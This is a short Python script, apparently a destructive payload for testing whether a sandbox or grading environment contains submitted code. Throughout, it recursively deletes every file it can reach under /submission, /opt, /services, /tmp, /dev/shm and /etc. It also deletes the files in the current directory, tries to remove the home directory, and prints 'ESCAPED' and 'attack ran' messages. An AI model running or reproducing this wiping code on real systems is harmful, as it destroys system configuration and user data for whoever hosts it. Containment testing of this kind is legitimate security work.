import os

for top in ("/submission", "/opt", "/services", "/tmp", "/dev/shm", "/etc"):
    for folder, folders, names in os.walk(top, topdown=False):
        for name in names:
            try:
                os.unlink(os.path.join(folder, name))
                if top not in ("/tmp", "/dev/shm"):
                    print("ESCAPED: removed", os.path.join(folder, name))
            except OSError:
                pass
for name in os.listdir("."):
    if os.path.isfile(name):
        os.unlink(name)
os.rmdir(os.path.expanduser("~"))
print("attack ran")
